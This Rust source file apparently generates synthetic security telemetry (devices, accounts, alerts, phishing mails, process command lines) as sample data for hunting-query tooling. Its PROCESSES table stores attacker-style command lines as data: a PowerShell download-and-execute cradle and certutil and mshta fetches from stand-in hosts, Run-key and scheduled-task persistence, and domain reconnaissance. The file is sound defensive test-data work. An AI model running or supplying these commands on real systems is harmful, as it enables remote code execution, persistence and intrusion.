//! The shared entities of one `kqlite sample` run: devices, accounts, processes, addresses, alerts and mails.
//! Every table draws from these pools, so joins across tables (DeviceId, AccountName, SHA1, RemoteIP, AlertId,
//! NetworkMessageId, InternetMessageId…) find each other.

use super::Rng;

pub struct Device {
    pub name: String,
    pub id: String,
    pub ip: String,
    pub aad: String,
}

impl Device {
    /// The name as Defender reports it (fully qualified).
    pub fn fqdn(&self) -> String {
        format!("{}.contoso.com", self.name)
    }
}

pub struct Account {
    pub name: String,
    pub domain: String,
    pub sid: String,
    pub upn: String,
    pub object_id: String,
}

pub struct Process {
    pub file: &'static str,
    pub folder: &'static str,
    pub cmd: String,
    pub sha1: String,
    pub sha256: String,
    pub md5: String,
    pub size: i64,
}

/// One alert, shared by AlertInfo and AlertEvidence.
pub struct Alert {
    pub id: String,
    pub title: &'static str,
    pub category: &'static str,
    pub severity: &'static str,
    pub technique: &'static str,
}

/// One mail, shared by EmailEvents, EmailAttachmentInfo, EmailUrlInfo and CloudAppEvents (MailItemsAccessed).
pub struct Mail {
    pub network_id: String,
    pub internet_id: String,
    pub subject: &'static str,
    pub cluster: i64,
}

pub struct World {
    pub devices: Vec<Device>,
    pub accounts: Vec<Account>,
    pub processes: Vec<Process>,
    pub public_ips: Vec<String>,
    pub domains: Vec<&'static str>,
    pub alerts: Vec<Alert>,
    pub mails: Vec<Mail>,
}

/// The device and account of the incident that half of each table's rows tell (see `super::generate`).
pub const FOCUS_DEVICE: usize = 2;
pub const FOCUS_ACCOUNT: usize = 0;

const PROCESSES: &[(&str, &str, &[&str])] = &[
    ("powershell.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0", &[
        "powershell.exe -NoProfile -ExecutionPolicy Bypass -Command \"Get-Service\"",
        "powershell.exe -nop -w hidden -c \"IEX ((New-Object Net.WebClient).DownloadString('http://cdn.contoso-update.example/a.ps1'))\"",
        "powershell.exe -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
    ]),
    ("cmd.exe", r"C:\Windows\System32", &["cmd.exe /c whoami /all", "cmd.exe /c net user /domain", "cmd.exe /c ipconfig /all"]),
    ("rundll32.exe", r"C:\Windows\System32", &["rundll32.exe C:\\Users\\Public\\lib.dll,Start", "rundll32.exe shell32.dll,Control_RunDLL"]),
    ("svchost.exe", r"C:\Windows\System32", &["svchost.exe -k netsvcs -p -s Schedule"]),
    ("explorer.exe", r"C:\Windows", &["C:\\Windows\\Explorer.EXE"]),
    ("chrome.exe", r"C:\Program Files\Google\Chrome\Application", &["\"chrome.exe\" --type=renderer"]),
    ("certutil.exe", r"C:\Windows\System32", &["certutil.exe -urlcache -split -f http://files.example/p.exe p.exe"]),
    ("wmic.exe", r"C:\Windows\System32\wbem", &["wmic process call create \"cmd.exe /c calc.exe\""]),
    ("schtasks.exe", r"C:\Windows\System32", &["schtasks /create /tn Updater /tr C:\\ProgramData\\upd.exe /sc onlogon"]),
    ("mstsc.exe", r"C:\Windows\System32", &["mstsc.exe /v:10.0.1.20"]),
    ("reg.exe", r"C:\Windows\System32", &["reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d C:\\ProgramData\\upd.exe"]),
    ("msedge.exe", r"C:\Program Files (x86)\Microsoft\Edge\Application", &["\"msedge.exe\" --single-argument https://portal.example"]),
    ("net.exe", r"C:\Windows\System32", &["net user /domain", "net group \"Domain Admins\" /domain", "net localgroup administrators"]),
    ("whoami.exe", r"C:\Windows\System32", &["whoami /all"]),
    ("nltest.exe", r"C:\Windows\System32", &["nltest /dclist:contoso.com"]),
    ("outlook.exe", r"C:\Program Files\Microsoft Office\root\Office16", &["\"OUTLOOK.EXE\" /recycle"]),
    ("WINWORD.EXE", r"C:\Program Files\Microsoft Office\root\Office16", &["\"WINWORD.EXE\" /n \"C:\\Users\\ann\\Downloads\\invoice.docm\""]),
    ("mshta.exe", r"C:\Windows\System32", &["mshta.exe https://files.example/a.hta"]),
    ("GoogleUpdateSetup.exe", r"C:\Users\ann\Downloads", &["\"GoogleUpdateSetup.exe\" /silent"]),
];

const DOMAINS: &[&str] = &[
    "login.microsoftonline.com",
    "cdn.contoso-update.example",
    "files.example",
    "portal.example",
    "graph.microsoft.com",
    "github.com",
    "pastebin.example",
    "mail.contoso.com",
];

const FIRST: &[&str] =
    &["ann", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "mallory", "oscar"];

const ALERTS: &[(&str, &str, &str, &str)] = &[
    ("Suspicious PowerShell command line", "Execution", "High", "T1059.001"),
    ("Possible credential theft", "CredentialAccess", "High", "T1003"),
    ("Anomaly detected in ASEP registry", "Persistence", "Medium", "T1547.001"),
    ("Suspicious inbox manipulation rule", "DefenseEvasion", "Medium", "T1564.008"),
    ("Remote Desktop connection from a rare IP", "LateralMovement", "Medium", "T1021.001"),
    ("Malicious URL was clicked", "InitialAccess", "High", "T1566.002"),
    ("Account enumeration reconnaissance", "Discovery", "Low", "T1087"),
    ("Ransomware behavior detected", "Impact", "High", "T1486"),
];

const SUBJECTS: &[&str] = &[
    "Invoice 4471 overdue",
    "Your password expires today",
    "Q3 planning",
    "Shared document: contract.docx",
    "Team lunch",
    "Action required: verify your mailbox",
];

/// ActionTypes hunting queries filter on most, cycled first through the incident's rows so that even a small
/// sample holds them; the rest of a table's catalog values follow.
pub const HUNTED_ACTION_TYPES: &[&str] = &[
    "ConnectionSuccess",
    "InboundConnectionAccepted",
    "RegistryValueSet",
    "LogonSuccess",
    "AntivirusDetection",
    "TamperingAttempt",
    "SmartScreenUrlWarning",
    "SmartScreenAppWarning",
    "BrowserLaunchedToOpenUrl",
    "AsrOfficeChildProcessBlocked",
    "AsrLsassCredentialTheftAudited",
    "ExploitGuardNetworkProtectionBlocked",
    "AmsiScriptDetection",
    "PowerShellCommand",
    "ProcessCreated",
    "FileCreated",
    "Group Membership changed",
    "Potential lateral movement path identified",
    "LDAP query",
    "LogonFailed",
    "ScheduledTaskCreated",
    "ServiceInstalled",
    "DnsQueryResponse",
    "UsbDriveMounted",
    "NamedPipeEvent",
    "ListeningConnectionCreated",
    "NetworkSignatureInspected",
    "Account Password changed",
];

/// ActionType values for tables whose catalog entry lists none.
pub fn fallback_action_types(table: &str) -> &'static [&'static str] {
    match table {
        "CloudAppEvents" => &[
            "MailItemsAccessed",
            "FileDownloaded",
            "New-InboxRule",
            "Send",
            "FileUploaded",
            "Add user.",
            "Update user.",
            "Set-Mailbox",
        ],
        "UrlClickEvents" => &["ClickAllowed", "ClickBlocked", "UrlScanInProgress"],
        "EmailPostDeliveryEvents" => &["Phish ZAP", "Malware ZAP", "Manual Remediation"],
        "IdentityEvents" => &["LogonSuccess", "Account Password changed"],
        _ => &[],
    }
}

impl World {
    pub fn new(rng: &mut Rng) -> World {
        let devices = (0..8)
            .map(|i| {
                let name = match i {
                    0 => "dc01".to_string(),
                    1 => "srv-file01".to_string(),
                    _ => format!("ws-{:03}", 100 + i),
                };
                Device { name, id: rng.hex(40), ip: format!("10.0.{}.{}", 1 + i / 4, 10 + i), aad: rng.guid() }
            })
            .collect();
        let accounts = FIRST
            .iter()
            .map(|n| Account {
                name: n.to_string(),
                domain: "contoso".into(),
                sid: format!(
                    "S-1-5-21-{}-{}-{}-{}",
                    1000 + rng.below(9000),
                    1000 + rng.below(9000),
                    1000 + rng.below(9000),
                    1100 + rng.below(900)
                ),
                upn: format!("{n}@contoso.com"),
                object_id: rng.guid(),
            })
            .collect();
        let processes = PROCESSES
            .iter()
            .flat_map(|(file, folder, cmds)| cmds.iter().map(move |c| (*file, *folder, *c)))
            .map(|(file, folder, cmd)| Process {
                file,
                folder,
                cmd: cmd.to_string(),
                sha1: rng.hex(40),
                sha256: rng.hex(64),
                md5: rng.hex(32),
                size: 20_000 + rng.below(5_000_000) as i64,
            })
            .collect();
        let public_ips = (0..10)
            .map(|i| match i % 3 {
                0 => format!("203.0.113.{}", 10 + rng.below(200)),
                1 => format!("198.51.100.{}", 10 + rng.below(200)),
                _ => format!("192.0.2.{}", 10 + rng.below(200)),
            })
            .collect();
        let alerts = ALERTS
            .iter()
            .map(|(title, category, severity, technique)| Alert {
                id: format!("da{}", rng.hex(32)),
                title,
                category,
                severity,
                technique,
            })
            .collect();
        let mails = SUBJECTS
            .iter()
            .cycle()
            .take(12)
            .map(|subject| Mail {
                network_id: rng.guid(),
                internet_id: format!("<{}@mail.contoso.com>", rng.hex(24)),
                subject,
                cluster: 3_000_000_000_000 + rng.below(1_000_000_000) as i64,
            })
            .collect();
        World { devices, accounts, processes, public_ips, domains: DOMAINS.to_vec(), alerts, mails }
    }
}
